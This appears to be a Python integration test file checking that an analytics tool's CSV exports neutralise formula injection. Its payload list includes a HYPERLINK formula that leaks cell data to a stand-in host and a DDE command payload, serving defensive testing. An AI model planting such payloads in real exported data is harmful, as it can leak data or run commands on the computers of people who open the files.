"""Issue 29, finding 12 (CSV injection): collector-supplied text such as `=HYPERLINK(…)` written
into the CSV files Tally hands out, which a site owner opens in a spreadsheet that runs it.

Every door that writes CSV is tried with an event whose path, referrer, UTM source, name and
properties are formulas: Explore's download through the real server (waitress), `tally export
--format csv` and `tally query --format csv` as a user runs them. No cell may start a formula;
a number column (a negative one too) stays a number."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import uuid
from datetime import timedelta

import httpx
import pytest

from storage.client import connect
from tally.csv_cells import FORMULA_STARTS, csv_cell, csv_text
from tally.settings import PROJECT_ROOT, Settings
from tests.fixtures.events import START, archive_rows, page_view
from tests.security.conftest import Tenants, signed_in

pytestmark = pytest.mark.integration

# What an attacker sends as a path, a referrer, a UTM tag, an event name or a property.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your report")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]


def runs_as_formula(cell: str) -> bool:
    """Whether a spreadsheet would run the cell (OWASP's rule), a plain number aside."""
    try:
        float(cell)
        return False
    except ValueError:
        return cell.startswith(FORMULA_STARTS)


def formulas_in(text: str) -> list[str]:
    rows = csv.reader(io.StringIO(text, newline=""))
    return [cell for row in rows for cell in row if runs_as_formula(cell)]


def tally_output(env: dict[str, str], *args: str) -> str:
    """What the real `tally` CLI writes to stdout, byte for byte (a carriage return inside a
    cell stays one: no newline translation)."""
    answer = subprocess.run(
        [sys.executable, "-m", "ops.cli", *args], cwd=PROJECT_ROOT, env=env, capture_output=True, timeout=300
    )
    assert answer.returncode == 0, answer.stderr.decode()
    return answer.stdout.decode()


def operator_callback(tenants: Tenants, body: dict) -> httpx.Response:
    """A Dash callback POSTed by the signed-in operator. The session cookie is Secure (as in
    production, behind TLS) and the test server speaks plain HTTP, so httpx would not send it
    back by itself: it is sent as a browser behind the TLS proxy would."""
    browser = signed_in(tenants.server)
    try:
        cookie = browser.cookies.get("tally_session")
        return browser.post(
            "/_dash-update-component",
            json=body,
            headers={"Origin": tenants.server.url, "Cookie": f"tally_session={cookie}"},
        )
    finally:
        browser.close()


@pytest.fixture(scope="module")
def formula_site(tenants: Tenants, dashboard_settings: Settings) -> str:
    """Site A with one event per formula in every collector-supplied text field."""
    events = [
        page_view(
            tenants.site_a,
            f"formula-{i}",
            START + timedelta(seconds=i),
            path=formula,
            name=formula,
            referrer=formula,
            referrer_domain=formula,
            utm_source=formula,
            utm_campaign=formula,
            props={"plan": formula, formula: "key"},
        )
        for i, formula in enumerate(FORMULAS)
    ]
    rows, columns = archive_rows(events)
    connect(dashboard_settings).insert("events", rows, column_names=columns)
    return tenants.site_a


def test_every_formula_start_is_neutralised_and_numbers_stay_numbers() -> None:
    for formula in FORMULAS:
        assert csv_cell(formula) == "'" + formula
    assert [csv_cell(value) for value in (-1, -2.5, 0, "-12.50", "+3", "1e-5", None)] == [
        -1,
        -2.5,
        0,
        "-12.50",
        "+3",
        "1e-5",
        None,
    ]
    assert csv_cell({"plan": "=1"}) == '{"plan": "=1"}'  # a map is one JSON text: `{` starts no formula
    assert csv_text([["-1", -1, "-1-1"]]) == "-1,-1,'-1-1\r\n"


def test_explores_csv_download_holds_no_formula_a_visitor_sent(tenants: Tenants, formula_site: str) -> None:
    sql = (
        "SELECT path, name, referrer, referrer_domain, utm_source, utm_campaign, props, "
        "-1 AS negative, screen_width - 5 AS shifted FROM events "
        f"WHERE site = '{formula_site}' AND visitor_id LIKE 'formula-%' ORDER BY ts"
    )
    body = {
        "output": "explore-download.data",
        "outputs": {"id": "explore-download", "property": "data"},
        "inputs": [{"id": "explore-download-button", "property": "n_clicks", "value": 1}],
        "state": [
            {"id": "explore-last-sql", "property": "data", "value": sql},
            {"id": "explore-sql", "property": "value", "value": sql},
        ],
        "changedPropIds": ["explore-download-button.n_clicks"],
    }
    answer = operator_callback(tenants, body)
    assert answer.status_code == 200, answer.text[:300]
    download = answer.json()["response"]["explore-download"]["data"]
    rows = list(csv.reader(io.StringIO(download["content"])))

    assert len(rows) == 1 + len(FORMULAS)
    assert formulas_in(download["content"]) == []
    assert {row[0] for row in rows[1:]} == {"'" + formula for formula in FORMULAS}  # the text is kept
    assert {(row[7], row[8]) for row in rows[1:]} == {("-1", "-5")}  # numbers, not text


def test_tally_export_csv_holds_no_formula_a_visitor_sent(
    formula_site: str, dashboard_settings: Settings
) -> None:
    env = os.environ | dashboard_settings.environment()
    start, end = (moment.strftime("%Y-%m-%dT%H:%M:%S") for moment in (START, START + timedelta(hours=1)))
    period = ("--from", start, "--to", end)
    text = tally_output(env, "export", "--site", formula_site, *period, "--format", "csv")

    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert formulas_in(text) == []
    mine = [row for row in rows if row["visitor_id"].startswith("formula-")]
    assert sorted(row["utm_source"] for row in mine) == sorted("'" + formula for formula in FORMULAS)
    assert {row["screen_width"] for row in mine} == {"0"}


def test_tally_query_csv_holds_no_formula_a_visitor_sent(
    formula_site: str, dashboard_settings: Settings
) -> None:
    env = os.environ | dashboard_settings.environment()
    sql = f"SELECT name, props, -3 AS negative FROM events WHERE site = '{formula_site}' ORDER BY ts LIMIT 50"
    text = tally_output(env, "query", sql, "--format", "csv")

    assert formulas_in(text) == []
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert {"'" + formula for formula in FORMULAS} <= {row["name"] for row in rows}
    assert {row["negative"] for row in rows} == {"-3"}


def test_a_column_alias_cannot_smuggle_a_formula_into_the_header(dashboard_settings: Settings) -> None:
    env = os.environ | dashboard_settings.environment()
    alias = f"=cmd{uuid.uuid4().hex[:4]}"
    text = tally_output(env, "query", f'SELECT 1 AS "{alias}"', "--format", "csv")
    assert text.splitlines()[0] == "'" + alias
